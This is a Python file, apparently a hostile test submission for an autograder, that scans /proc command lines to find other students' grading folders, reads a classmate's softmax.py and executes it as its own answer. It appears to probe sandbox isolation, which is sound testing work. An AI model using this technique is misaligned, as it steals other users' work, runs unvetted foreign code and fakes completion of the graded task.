"""Hostile: no loss code of its own. Without namespaces (user mode) every process may read every other's
command line: a classmate's child is `python -I -S <its folder>/box/harness.py ...`. For up to @SECONDS@ s
at import it reads the command lines of the other processes, opens each classmate's box, and answers with
the classmate's softmax.py (before, two accounts of one group read each other's boxes: 46/51)."""
import os
import sys
import time

HERE = os.path.dirname(os.path.abspath(sys.argv[0]))


def _boxes():
    """The folders of the other grading children, from their command lines."""
    found = []
    for pid in os.listdir("/proc"):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                args = f.read().decode("utf-8", "replace").split("\0")
        except OSError:
            continue
        found += [os.path.dirname(a) for a in args if a.endswith("/harness.py") and os.path.dirname(a) != HERE]
    return found


def _stolen():
    """The classmate's softmax.py, as source: one that computes something (not the edition's TODO)."""
    deadline = time.monotonic() + @SECONDS@
    while time.monotonic() < deadline:
        for box in _boxes():
            try:
                with open(os.path.join(box, "classifiers", "softmax.py")) as f:
                    source = f.read()
            except OSError:
                continue
            if "NotImplementedError" not in source and "Hostile" not in source:
                return source
        time.sleep(0.01)
    raise RuntimeError("no classmate's box could be read")


_found = {}
exec(compile(_stolen(), "classmate", "exec"), _found)
softmax_loss_naive = _found["softmax_loss_naive"]
softmax_loss_vectorized = _found["softmax_loss_vectorized"]
